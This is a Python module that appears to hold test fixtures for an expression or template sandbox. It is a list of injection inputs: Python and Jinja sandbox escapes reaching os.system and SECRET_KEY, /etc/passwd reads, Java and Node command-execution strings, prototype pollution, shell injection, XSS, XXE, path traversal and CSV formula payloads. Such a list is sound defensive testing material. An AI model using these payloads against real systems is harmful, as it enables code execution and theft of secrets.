"""What attackers write where templates and expressions are evaluated."""

WRITTEN = r"""
''.__class__
''.__class__.__mro__[1].__subclasses__()
().__class__.__bases__[0].__subclasses__()
[].__class__.__base__
{}.__class__.__mro__
(1).__class__
1.__class__
1.0.real
true.__class__
null.__class__.__init__.__globals__
steps.__class__
steps.__init__.__globals__
steps['__class__']
steps.clean.__class__
steps.clean.__getitem__
steps.clean.pop('email')
steps.clean.update({'a': 1})
steps.clean.keys()
steps.clean.items
trigger.__class__.__mro__
trigger['__class__']['__mro__']
trigger.items.append(1)
trigger.items.__len__()
trigger.email.format(1)
trigger.email.upper()
trigger.email.__add__
trigger.get('email')
trigger.get
trigger.__dict__
trigger.__getattribute__('x')
run.__class__.__init__.__globals__['os']
vars.__setitem__('a', 1)
env['PATH']
env.HOME
now.__globals__
now.__self__
now().__class__
upper.__globals__
upper.__code__
max.__self__
functions.upper
__import__('os').system('id')
__import__
__builtins__
__builtins__['eval']
__now__
__now__()
__callback_url__('x')
__callback_url__.__globals__
eval('1')
exec('1')
compile('1', '', 'eval')
open('/etc/passwd').read()
open('/etc/passwd')
getattr(steps, '__class__')
setattr(steps, 'a', 1)
vars()
globals()
locals()
dir()
type(steps).__mro__
type('a').mro()
object.__subclasses__()
str.format('{0.__class__}', 1)
'{0.__class__.__mro__}'.format(1)
'%s' % steps
f'{steps}'
f"{__import__('os')}"
b'abc'
lambda: 1
(lambda: 1)()
[x for x in ().__class__.__bases__]
[x.__class__ for x in [1]]
[__import__ for __import__ in [1]]
[y for x in [1] for y in [2]]
(x := 1)
print(1)
input()
exit()
quit()
breakpoint()
help()
id(1)
import os
import os; os.system('id')
os.system('id')
self.__init__.__globals__
self._TemplateReference__context
cycler.__init__.__globals__.os.popen('id').read()
lipsum.__globals__['os'].popen('id').read()
joiner.__init__.__globals__
namespace.__init__.__globals__
request.application.__globals__
request['application']['__globals__']
config
config.items()
config.SECRET_KEY
g
session
url_for.__globals__
get_flashed_messages.__globals__['current_app'].config
''|attr('__class__')
''|attr('\x5f\x5fclass\x5f\x5f')
()|attr('__class__')|attr('__base__')
request|attr('application')
[].pop
''['__class__']
''[['__class__','x']|join]
''['__cla' + 'ss__']
('a','b')|join
{{7*7}}
${7*7}
#{7*7}
<%= 7*7 %>
{% for x in [] %}
{%raw%}
{#
@(1+1)
*{7*7}
T(java.lang.Runtime).getRuntime().exec('id')
#this.getClass()
process.mainModule.require('child_process')
constructor.constructor('return process')()
''.constructor.constructor
steps.constructor
steps.__proto__
trigger.__proto__.polluted
trigger['constructor']['prototype']
this
this.constructor
globalThis
require('fs')
new Date()
() => 1
async () => 1
function(){return 1}()
`id`
$(id)
|ls
; ls
$json.a
$node['x']
$env.PATH
$secrets
_
_.__class__
__
__class__
__name__
__file__
__doc__
__spec__.loader
NotImplemented
Ellipsis
...
x.gi_frame.f_back.f_globals
(x for x in [1]).gi_frame
await x
yield x
del steps
assert 0
raise
global x
steps = 1
steps += 1
steps.clean = 1
*steps
**steps
max(*[1])
max(**{})
max(a=1)
a@b
~1
1 << 99
1 >> 1
1 & 1
1 ^ 1
1 if 1
1, 2
[*steps]
{**steps}
x[::2]
x[1:]
x[...]
"\N{DIGIT ONE}"
'\ud800'
'\x00'
0x41
0b1
0o7
1j
1__0
1._0
ａ
ｓｔｅｐｓ
ｅｖａｌ('1')
𝓮𝔁𝓮𝓬('1')
steps．clean
ﬁ
K
parse_json('{"__class__": 1}').__class__
parse_json('{"__proto__": {"a": 1}}')
set({}, '__class__.__mro__', 1)
get(steps, '__class__')
get('', '__class__')
get(now, '__globals__')
map([''], '__class__')
map([steps], '__init__.__globals__')
sort_by([''], '__class__')
filter_by([''], '__class__', 1)
index_by([''], '__class__')
group_by([steps], '__class__')
pick(steps, '__class__')
omit(trigger, '__class__')
keys('')
values(now())
callback_url('../../etc/passwd')
callback_url(steps)
format_date(now(), '{0.__class__}')
format_date(now(), '%(__class__)s')
parse_date('x', '(?P<a>x)')
matches('a', '(?P<a>a)(?P=a)')
extract('a', '\1')
to_zone(now(), '/etc/passwd')
to_zone(now(), '../../../etc/passwd')
markdown_to_html('[x](javascript:alert(1))')
markdown_to_html('<script>alert(1)</script>')
markdown_to_html('![x](x" onerror="alert(1))')
strip_html('<scr<script>ipt>alert(1)</script>')
parse_xml('<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>')
parse_xml('<a xmlns:xi="x"><xi:include href="file:///etc/passwd"/></a>')
to_csv([{'a': '=cmd|calc'}])
"""
PAYLOADS = [line for line in WRITTEN.splitlines() if line]
